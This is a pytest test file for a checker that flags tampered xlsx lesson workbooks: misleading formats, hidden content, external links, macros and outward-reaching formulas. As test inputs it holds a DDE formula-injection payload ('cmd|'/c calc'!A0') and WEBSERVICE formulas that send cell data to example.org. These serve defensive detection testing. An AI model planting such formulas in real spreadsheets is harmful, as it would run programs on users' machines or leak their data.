"""What a file shows otherwise than its lesson, and what is in it besides: each planted edit is told, with its place."""

import re
import subprocess
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

import numpy as np
import pytest
from sweep import FEW

from workbook.check.manifest import file_inputs, read_manifest, rebuild
from workbook.check.presented import presented
from workbook.check.recalc import libreoffice
from workbook.check.recalc.ironcalc import IronCalc
from workbook.check.shown import Findings, misleads, same_format
from workbook.check.strangers import foreign, reaches
from workbook.check.verify import compare_locked, verify
from workbook.plan.plan import Plan
from workbook.xlsx.read import read_workbook

Edit = Callable[[str], str]
Built = tuple[Path, Plan]
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def look(path: Path, plan: Plan | None = None) -> Findings:
    book = read_workbook(path)
    manifest = read_manifest(book, path)
    plan = plan or rebuild(book, manifest)[0]
    return presented(book, plan, manifest, path, foreign(book, plan), whole=True)


def edited(path: Path, target: Path, edits: Mapping[str, Edit | str]) -> Path:
    """A copy with the text of some parts changed, or new parts."""
    with zipfile.ZipFile(path) as archive, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as copy:
        for name in archive.namelist():
            edit = edits.get(name)
            data = archive.read(name)
            copy.writestr(name, edit(data.decode()) if callable(edit) else data)
        for name, edit in edits.items():
            if isinstance(edit, str):
                copy.writestr(name, edit)
    return target


@pytest.fixture
def smallest(small_of: Callable[[str], Built]) -> Built:
    """A small cross_entropy.xlsx, for what is so in any workbook."""
    return small_of("cross_entropy")


def replaced(old: str, new: str) -> Edit:
    def edit(text: str) -> str:
        assert old in text
        return text.replace(old, new, 1)

    return edit


def sheet(plan: Plan, title: str) -> str:
    """The part of a sheet that our writer wrote."""
    return f"xl/worksheets/sheet{[layout.sheet.title for layout in plan.layouts].index(title) + 1}.xml"


def in_cell(address: str, new: str) -> Edit:
    """Another cell in the place of one; its style stays where `{s}` stands for it."""

    def edit(text: str) -> str:
        match = re.search(rf'<c r="{address}" s="(\d+)"[^>]*?(/>|>.*?</c>)', text)
        assert match
        return text[: match.start()] + new.replace("{s}", match[1]) + text[match.end() :]

    return edit


def worded(address: str, words: str) -> Edit:
    """Other words in a cell."""
    return in_cell(address, f'<c r="{address}" s="{{s}}" t="inlineStr"><is><t>{words}</t></is></c>')


def styled(path: Path, target: Path, part: str, addresses: list[str], style: Edit) -> Path:
    """A copy in which some cells have their style, changed; `style` changes its `<xf>`."""
    with zipfile.ZipFile(path) as archive:
        styles = archive.read("xl/styles.xml").decode()
        cells = archive.read(part).decode()
    block = re.search(r"<cellXfs[^>]*>(.*?)</cellXfs>", styles, re.DOTALL)
    assert block
    all_styles = re.findall(r"<xf [^>]*?/>|<xf .*?</xf>", block[1], re.DOTALL)
    for number, address in enumerate(addresses, start=len(all_styles)):
        found = re.search(rf'(<c r="{address}" s=")(\d+)"', cells)
        assert found
        cells = cells.replace(found[0], f'{found[1]}{number}"', 1)
        all_styles.append(style(all_styles[int(found[2])]))
    styles = styles.replace(block[1], "".join(all_styles))
    return edited(path, target, {"xl/styles.xml": lambda _: styles, part: lambda _: cells})


def formatted(path: Path, target: Path, part: str, addresses: list[str], code: str) -> Path:
    """A copy in which some cells have another number format."""
    first = styled(
        path, target.with_suffix(".part"), part, addresses, lambda xf: re.sub(r'numFmtId="\d+"', 'numFmtId="999"', xf)
    )
    code = code.replace('"', "&quot;")
    added = f'<numFmt numFmtId="999" formatCode="{code}"/></numFmts>'
    return edited(first, target, {"xl/styles.xml": replaced("</numFmts>", added)})


# A verification looks too.
@pytest.mark.sweep(but=FEW)
def test_a_workbook_as_written_shows_what_its_lesson_says(every: Built) -> None:
    found = look(every[0])
    assert found.failures == []
    assert found.notes() == []


@pytest.fixture(scope="module")
def office_profile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("profile")


@pytest.mark.sweep(but=FEW[1:])
def test_a_copy_that_libreoffice_merely_saved_raises_no_alarm(
    every: Built, tmp_path: Path, office_profile: Path
) -> None:
    office = libreoffice.find()
    if office is None:
        pytest.skip("LibreOffice is not installed")
    profile = f"-env:UserInstallation={office_profile.as_uri()}"
    to = ["--headless", "--convert-to", "xlsx:Calc MS Excel 2007 XML", "--outdir", str(tmp_path), str(every[0])]
    subprocess.run([str(office.program), profile, *to], check=True, capture_output=True, timeout=300)
    saved = tmp_path / every[0].name
    book = read_workbook(saved)
    plan, unread = rebuild(book, read_manifest(book, saved))
    assert unread == []
    assert compare_locked(file_inputs(book, plan.layouts)[0], plan) == []
    found = look(saved, plan)
    assert found.failures == []
    assert found.notes() == []


@pytest.mark.parametrize(
    ("value", "code", "wrong"),
    [
        (0.3929, "0.0", False),
        (0.3929, "0.0000000000", False),
        (0.3929, '"0.1000"', True),
        (0.3929, r"\0\.\1", True),
        (0.3929, '0.0000"1"', True),
        (0.3929, '0.00" RMSE"', False),
        (-86.0, "0.00;0.00", True),
        (-86.0, "0.00;(0.00)", True),
        (86.0, "0.00;0.00", False),
        (123456.0, "0,", True),
        (0.1, "0%", False),
        (0.1, '0.0"%"', True),
        (0.1, "yyyy-mm-dd", True),
        (0.1, ";;;", False),
        (0.1, "General", False),
        (1e-9, "0.00E+00", False),
        ("close", ';;;"far"', True),
        ("close", "0.00", False),
    ],
)
def test_a_format_misleads_where_it_shows_another_number(value: float | str, code: str, wrong: bool) -> None:
    assert misleads(value, code) is wrong


@pytest.mark.parametrize(
    ("one", "other", "same"),
    [
        ('0.00;-0.00;"·"', r"0.00;\-0.00;\·", True),
        ("[>=100000]0.00E+00;0.0000", "[>=100000]0.00E+00;General", False),
        ("0.00", "[White]0.00", False),
        ("0.00", "[Blue]0.00", True),
        ('"right";;"wrong"', '"right";;"right"', False),
    ],
)
def test_formats_are_the_same_where_they_show_the_same(one: str, other: str, same: bool) -> None:
    assert same_format(one, other) is same


@pytest.mark.parametrize(
    ("formula", "why"),
    [
        ('WEBSERVICE("http://example.org/"&A1)', "calls WEBSERVICE"),
        ('_xlfn.WEBSERVICE("x")', "calls WEBSERVICE"),
        ('DDE("soffice","a.ods","A1")', "asks another program|calls DDE"),
        ("cmd|'/c calc'!A0", "asks another program"),
        ('HYPERLINK("http://example.org","6")', "calls HYPERLINK"),
        ('1+rtd("x",,"y")', "calls RTD"),
        ("[1]Sheet1!A1", "reads another workbook"),
        ("'[my book.xlsx]It''s'!A1+1", "reads another workbook"),
        ("'file:///tmp/a.xlsx'#$Sheet1.A1", "reads an address outside"),
        ('IF(A1="call(me)|now",1,2)', ""),
        ('HYPERLINK("#Data!A1","there")', ""),
        ('HYPERLINK("#"&A1,"there")', "calls HYPERLINK"),
        ("Sales[Amount]+Data!B3", ""),
        ("'a|b'!A1+'Dot product'!B7", ""),
        ("SUM(RECALL)+PYTHAGORAS(1)", ""),
    ],
)
def test_a_formula_that_reaches_outside_is_known(formula: str, why: str) -> None:
    assert re.match(f"^(?:{why})", reaches(formula))
    assert bool(reaches(formula)) is bool(why)


def test_a_literal_text_as_a_format_is_named_with_its_cell(small: Built, tmp_path: Path) -> None:
    path, plan = small
    place = plan.places["dot_product.rmse"]
    found = look(formatted(path, tmp_path / "x.xlsx", sheet(plan, place.title), [place.address()], '"0.1000"'))
    (failure,) = found.failures
    assert (failure.cell, failure.kind) == (f"{place.title}!{place.address()}", "value")
    assert failure.found == "'0.1000', by the format '\"0.1000\"'"
    check = verify(tmp_path / "x.xlsx", device="cpu", engines=[IronCalc()], progress=lambda *_: None)
    assert [failure.cell for failure in check.failures] == [f"{place.title}!{place.address()}"]


def test_a_format_that_drops_the_sign_is_named_where_it_does(small: Built, tmp_path: Path) -> None:
    path, plan = small
    place = plan.places["dot_product.error"]
    values = plan.values["dot_product.error"]
    chosen = [tuple(i) for sign in (1, -1) for i in np.argwhere(sign * values > 0.005).tolist()[:2]]
    addresses = [place.address(i) for i in chosen]
    negative = {f"{place.title}!{place.address(i)}" for i in chosen if values[i] < 0}
    assert len(negative) == 2 < len(chosen)
    found = look(formatted(path, tmp_path / "x.xlsx", sheet(plan, place.title), addresses, "0.00;0.00"))
    assert {failure.cell for failure in found.failures} == negative


@pytest.mark.parametrize(
    ("code", "said"), [("0.0000000", "'0.0000000' in place of '0.0000'"), (";;;", "';;;' in place")]
)
def test_another_format_is_told(small: Built, tmp_path: Path, code: str, said: str) -> None:
    path, plan = small
    place = plan.places["dot_product.rmse"]
    found = look(formatted(path, tmp_path / "x.xlsx", sheet(plan, place.title), [place.address()], code))
    assert found.failures == []
    (note,) = found.notes()
    assert note.startswith(f"changed: number formats: {place.title}!{place.address()} (")
    assert said in note


def test_white_signs_on_white_are_told(small: Built, tmp_path: Path) -> None:
    path, plan = small
    place = plan.places["dot_product.rmse"]
    with zipfile.ZipFile(path) as archive:
        fonts = archive.read("xl/styles.xml").decode().count("<font>")
    target = styled(
        path,
        tmp_path / "x.part",
        sheet(plan, place.title),
        [place.address()],
        lambda xf: re.sub(r'fontId="\d+"', f'fontId="{fonts}"', xf),
    )
    white = '<font><sz val="11"/><color theme="0"/><name val="Calibri"/></font></fonts>'
    found = look(edited(target, tmp_path / "x.xlsx", {"xl/styles.xml": replaced("</fonts>", white)}))
    assert found.notes() == [f"changed: signs of the colour of their ground: {place.title}!{place.address()}"]


def note_of(found: Findings) -> str:
    """The one thing that is noted where nothing fails."""
    assert found.failures == []
    (note,) = found.notes()
    return note


def test_other_words_are_told_with_their_cell(small: Built, tmp_path: Path) -> None:
    path, plan = small
    layout = next(layout for layout in plan.layouts if layout.sheet.title == "Dot product")
    label = next(label for label in layout.labels if label.text == "RMSE")
    edit = worded(f"A{label.row}", "Accuracy")
    found = look(edited(path, tmp_path / "x.xlsx", {sheet(plan, "Dot product"): edit}))
    assert note_of(found) == f"changed: words: Dot product!A{label.row} ('Accuracy' in place of 'RMSE')"


def test_a_validation_that_takes_more_is_told_with_its_cell(small: Built, tmp_path: Path) -> None:
    path, plan = small
    place = plan.places["dot_product.factors_from"]
    edit = replaced("initial,trained,yours", "initial,trained,yours,best")
    found = look(edited(path, tmp_path / "x.xlsx", {sheet(plan, place.title): edit}))
    assert note_of(found) == f"changed: what cells accept: {place.title}!{place.address()}"


def test_other_colours_are_told_with_their_cell(small: Built, tmp_path: Path) -> None:
    edit = replaced('<color rgb="FF56B4E9"', '<color rgb="FFFFFFFF"')
    found = look(edited(small[0], tmp_path / "x.xlsx", {sheet(small[1], "Dot product"): edit}))
    assert [note.partition(":")[0] for note in found.notes()] == [
        "changed",
        "conditional formats that the lesson does not have",
    ]
    assert found.notes()[0] == "changed: colours: Dot product!D10"


def test_a_conditional_format_that_shows_other_digits_is_named_with_its_cell(small: Built, tmp_path: Path) -> None:
    path, plan = small
    place = plan.places["dot_product.rmse"]
    with zipfile.ZipFile(path) as archive:
        own = archive.read("xl/styles.xml").decode().count("<dxf>")
    rule = f'<conditionalFormatting sqref="{place.address()}"><cfRule type="expression" priority="99" dxfId="{own}">'
    rule += "<formula>TRUE</formula></cfRule></conditionalFormatting><conditionalFormatting "
    dxf = '<dxf><numFmt numFmtId="998" formatCode="&quot;0.1000&quot;"/></dxf></dxfs>'
    edits: dict[str, Edit | str] = {
        sheet(plan, place.title): replaced("<conditionalFormatting ", rule),
        "xl/styles.xml": replaced("</dxfs>", dxf),
    }
    (failure,) = look(edited(path, tmp_path / "x.xlsx", edits)).failures
    assert (failure.cell, failure.found) == (
        f"{place.title}!{place.address()}",
        "'0.1000', by a conditional format",
    )


def test_a_conditional_format_of_excel_2010_is_read_too(small: Built, tmp_path: Path) -> None:
    path, plan = small
    place = plan.places["dot_product.rmse"]
    new, main = (f"http://schemas.microsoft.com/office/{name}/2009/9/main" for name in ("spreadsheetml", "excel"))
    rule = (
        f'<extLst><ext xmlns:x14="{new}" xmlns:xm="{main}"><x14:conditionalFormattings><x14:conditionalFormatting>'
        '<x14:cfRule type="expression"><xm:f>\'Bias\'!A1="x"</xm:f><x14:dxf><numFmt numFmtId="1" '
        'formatCode="&quot;0.1000&quot;"/></x14:dxf></x14:cfRule><xm:sqref>A1:B20</xm:sqref>'
        "</x14:conditionalFormatting></x14:conditionalFormattings></ext></extLst></worksheet>"
    )
    found = look(edited(path, tmp_path / "x.xlsx", {sheet(plan, place.title): replaced("</worksheet>", rule)}))
    assert f"{place.title}!{place.address()}" in {failure.cell for failure in found.failures}
    assert {failure.found for failure in found.failures} == {"'0.1000', by a conditional format"}


@pytest.mark.parametrize(
    ("old", "new", "said"),
    [
        ('<row r="8">', '<row r="8" hidden="1">', "changed: hidden: row 8 of Softmax"),
        ('<row r="8">', '<row r="8" ht="0" customHeight="1">', "changed: hidden: row 8 of Softmax"),
        ('<row r="8">', '<row r="8" ht="0.1" customHeight="1">', "changed: hidden: row 8 of Softmax"),
        ("<cols>", '<cols><col min="3" max="5" hidden="1"/>', "changed: hidden: columns 3 to 5 of Softmax"),
        ("<sheetView ", '<sheetView showFormulas="1" ', "changed: the view: Softmax shows formulas"),
        ("<sheetView ", '<sheetView showZeros="0" ', "changed: the view: Softmax shows nothing where"),
        (
            "</sheetData>",
            '</sheetData><mergeCells><mergeCell ref="D15:E15"/></mergeCells>',
            "merged cells: Softmax!D15",
        ),
        ('ref="H1" location="', 'ref="H1" location="Start!A1#', "changed: links: Softmax!H1"),
    ],
)
def test_what_hides_or_moves_something_is_told(smallest: Built, tmp_path: Path, old: str, new: str, said: str) -> None:
    found = look(edited(smallest[0], tmp_path / "x.xlsx", {sheet(smallest[1], "Softmax"): replaced(old, new)}))
    assert said in note_of(found)


@pytest.mark.parametrize(
    ("attribute", "said"),
    [('calcMode="manual"', "calculation by hand"), ('fullPrecision="0"', "precision as displayed")],
)
def test_a_calculation_that_shows_wrong_numbers_fails(
    smallest: Built, tmp_path: Path, attribute: str, said: str
) -> None:
    found = look(
        edited(smallest[0], tmp_path / "x.xlsx", {"xl/workbook.xml": replaced("<calcPr ", f"<calcPr {attribute} ")})
    )
    (failure,) = found.failures
    assert failure.cell == ""
    assert said in failure.found


def test_a_chart_of_other_cells_is_told(small_optimizers: Built, tmp_path: Path) -> None:
    path = small_optimizers[0]
    with zipfile.ZipFile(path) as archive:
        parts = [name for name in archive.namelist() if name.startswith("xl/charts/chart")]
        chart = next(name for name in parts if b"The points" in archive.read(name))
        text = archive.read(chart).decode()
    reference = re.findall(r"<(?:c:)?f>([^<]*)</", text)[1]
    edit = replaced(reference, reference.replace("$E$", "$C$"))
    found = look(edited(path, tmp_path / "x.xlsx", {chart: edit}))
    assert note_of(found).startswith(
        "changed: charts: 'The points' of Data is gone, or draws other cells, 'The points'"
    )
    found = look(edited(path, tmp_path / "y.xlsx", {chart: replaced("The points", "The proof")}))
    assert note_of(found) == "changed: charts: 'The points' of Data has other words"


def test_names_that_mean_something_else_are_told(small: Built, tmp_path: Path) -> None:
    more = "<definedName name=\"truth\">'Bias'!$A$1</definedName></definedNames>"
    found = look(edited(small[0], tmp_path / "x.xlsx", {"xl/workbook.xml": replaced("</definedNames>", more)}))
    assert note_of(found) == "names that the lesson does not have: truth (''Bias'!$A$1')"
    place = small[1].places["y_range.y_low"]
    edit = replaced(f"'y_range'!$B${place.origin[0]}<", "'y_range'!$A$1<")
    found = look(edited(small[0], tmp_path / "y.xlsx", {"xl/workbook.xml": edit}))
    assert note_of(found).startswith("changed: names: y_range.y_low ('")


def test_a_name_that_starts_something_fails(smallest: Built, tmp_path: Path) -> None:
    more = "<definedName name=\"truth\">cmd|'/c calc'!A0</definedName></definedNames>"
    found = look(edited(smallest[0], tmp_path / "x.xlsx", {"xl/workbook.xml": replaced("</definedNames>", more)}))
    (failure,) = found.failures
    assert failure.found == "the name truth asks another program (DDE): 'cmd|'/c calc'!A0'"


@pytest.mark.parametrize(
    ("part", "said"),
    [
        ("xl/vbaProject.bin", "macros"),
        ("xl/macrosheets/sheet1.xml", "macros"),
        ("xl/activeX/activeX1.xml", "controls that run"),
        ("customUI/customUI14.xml", "controls that run"),
        ("xl/embeddings/oleObject1.bin", "embedded objects"),
        ("xl/externalLinks/externalLink1.xml", "links to other files"),
        ("xl/connections.xml", "connections to data outside"),
        ("xl/webextensions/taskpanes.xml", "web add-ins"),
    ],
)
def test_a_part_that_can_run_or_reach_outside_fails(small_entropy: Path, tmp_path: Path, part: str, said: str) -> None:
    target = edited(small_entropy, tmp_path / "x.xlsx", {part: "<x/>"})
    (failure,) = look(target).failures
    assert failure.found == f"{said}: the part {part}"
    check = verify(target, device="cpu", engines=[], progress=lambda *_: None)
    assert not check.ok
    assert "it was not opened in any program, because it could run something or reach outside" in check.notes


def test_a_part_that_no_program_leaves_is_told(smallest: Built, tmp_path: Path) -> None:
    assert note_of(look(edited(smallest[0], tmp_path / "x.xlsx", {"xl/pivotTables/pivotTable1.xml": "<x/>"}))) == (
        "not the lesson's: the part xl/pivotTables/pivotTable1.xml"
    )


def test_a_link_outside_fails(small: Built, tmp_path: Path) -> None:
    link = f'<Relationship Id="out" Type="{RELATIONS}/hyperlink" Target="http://example.org/" TargetMode="External"/>'
    part = sheet(small[1], "Dot product").replace("worksheets/", "worksheets/_rels/") + ".rels"
    edits: dict[str, Edit | str] = {part: replaced("</Relationships>", f"{link}</Relationships>")}
    (failure,) = look(edited(small[0], tmp_path / "x.xlsx", edits)).failures
    assert failure.found == f"a link to 'http://example.org/', of the part {sheet(small[1], 'Dot product')}"


def extra_sheet(path: Path, target: Path, state: str, formula: str) -> Path:
    """A copy with a sheet more, which holds one formula."""
    head = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    relation = f'<Relationship Id="more" Type="{RELATIONS}/worksheet" Target="worksheets/more.xml"/></Relationships>'
    declared = f'<sheet xmlns:q="{RELATIONS}" name="More" sheetId="999" state="{state}" q:id="more"/></sheets>'
    override = '<Override PartName="/xl/worksheets/more.xml" ContentType="application/vnd.openxmlformats-'
    override += 'officedocument.spreadsheetml.worksheet+xml"/></Types>'
    edits: dict[str, Edit | str] = {
        "xl/worksheets/more.xml": f'{head}<row r="1"><c r="A1"><f>{formula}</f></c></row></sheetData></worksheet>',
        "xl/workbook.xml": replaced("</sheets>", declared),
        "xl/_rels/workbook.xml.rels": replaced("</Relationships>", relation),
        "[Content_Types].xml": replaced("</Types>", override),
    }
    return edited(path, target, edits)


@pytest.mark.parametrize(
    ("state", "said"), [("hidden", "hidden"), ("veryHidden", "very hidden"), ("visible", "visible")]
)
def test_a_sheet_that_is_not_the_lessons_is_told(smallest: Built, tmp_path: Path, state: str, said: str) -> None:
    found = look(extra_sheet(smallest[0], tmp_path / "x.xlsx", state, "6*7"))
    assert note_of(found) == f"not the lesson's, and not checked: the {said} sheet More with 1 formulas"


def test_a_formula_that_fetches_fails_on_a_hidden_sheet_too(smallest: Built, tmp_path: Path) -> None:
    found = look(extra_sheet(smallest[0], tmp_path / "x.xlsx", "veryHidden", 'WEBSERVICE("http://example.org")'))
    (failure,) = found.failures
    assert (failure.cell, failure.kind) == ("More!A1", "error")
    assert failure.found == "a formula that calls WEBSERVICE: '=WEBSERVICE(\"http://example.org\")'"


def test_a_hidden_sheet_of_the_lesson_is_told(small: Built, tmp_path: Path) -> None:
    def edit(text: str) -> str:
        return re.sub(r'(<sheet [^>]*name="Bias"[^>]*state=")visible"', r'\1hidden"', text)

    found = look(edited(small[0], tmp_path / "x.xlsx", {"xl/workbook.xml": edit}))
    assert note_of(found) == "changed: the state of sheets: Bias is hidden"


def test_a_strangers_formula_is_told_with_its_cell(small: Built, tmp_path: Path) -> None:
    path, plan = small
    part = sheet(plan, "Dot product")
    edit = in_cell("A1", '<c r="A1" s="{s}" t="str"><f>"Dot product"</f><v>Dot product</v></c>')
    found = look(edited(path, tmp_path / "x.xlsx", {part: edit}))
    assert note_of(found) == (
        "formulas that are not the lesson's, and were not checked: Dot product!A1 ('=\"Dot product\"')"
    )


def test_a_formula_in_a_yellow_cell_is_told_with_its_cell(small: Built, tmp_path: Path) -> None:
    path, plan = small
    place, value = plan.places["y_range.y_high"], float(plan.values["y_range.y_high"])
    edit = in_cell(place.address(), f'<c r="{place.address()}" s="{{s}}"><f>5+0.5</f><v>{value!r}</v></c>')
    found = look(edited(path, tmp_path / "x.xlsx", {sheet(plan, place.title): edit}))
    assert note_of(found) == f"formulas in yellow cells, whose saved values count: y_range!{place.address()} ('=5+0.5')"


def test_a_formula_in_the_place_of_a_recorded_value_fails(small: Built, tmp_path: Path) -> None:
    path, plan = small
    place = plan.places["latent_factors.film_factors"]
    value = float(plan.values[place.name][0, 0])
    edit = in_cell(place.address(), f'<c r="{place.address()}" s="{{s}}"><f>1+1</f><v>{value!r}</v></c>')
    (failure,) = look(edited(path, tmp_path / "x.xlsx", {sheet(plan, place.title): edit})).failures
    assert (failure.cell, failure.kind, failure.found) == (f"{place.title}!{place.address()}", "formula", "=1+1")


def test_an_array_formula_where_the_lesson_has_an_ordinary_one_fails(small: Built, tmp_path: Path) -> None:
    path, plan = small
    place = plan.places["dot_product.rmse"]
    address = place.address()
    part = sheet(plan, place.title)

    def edit(text: str) -> str:
        return re.sub(rf'(<c r="{address}" [^>]*><f)>', rf'\1 t="array" ref="{address}">', text)

    target = edited(path, tmp_path / "x.xlsx", {part: edit})
    check = verify(target, device="cpu", engines=[], progress=lambda *_: None)
    assert [(failure.cell, failure.kind) for failure in check.failures] == [(f"{place.title}!{address}", "formula")]


def test_words_of_another_version_are_not_compared(small: Built, tmp_path: Path) -> None:
    """A file with the same definition, whose words and charts are of another version, is no changed one."""
    from workbook.plan import digests
    from workbook.plan.plan import SIGNATURE

    book = read_workbook(small[0])
    rows = dict(read_manifest(book, small[0]).rows)
    signed = {key: "0" * 64 if key == "looks" else value for key, value in rows.items() if key != SIGNATURE}
    edits: dict[str, Edit | str] = {
        f"xl/worksheets/sheet{len(small[1].layouts) + 1}.xml": lambda text: text.replace(
            rows["looks"], "0" * 64
        ).replace(rows[SIGNATURE], digests.of_rows(signed.items())),
        "xl/sharedStrings.xml": replaced(">RMSE<", ">Root mean squared error<"),
    }
    found = look(edited(small[0], tmp_path / "x.xlsx", edits))
    assert note_of(found).startswith("its words and charts are of another version and were not compared: ")
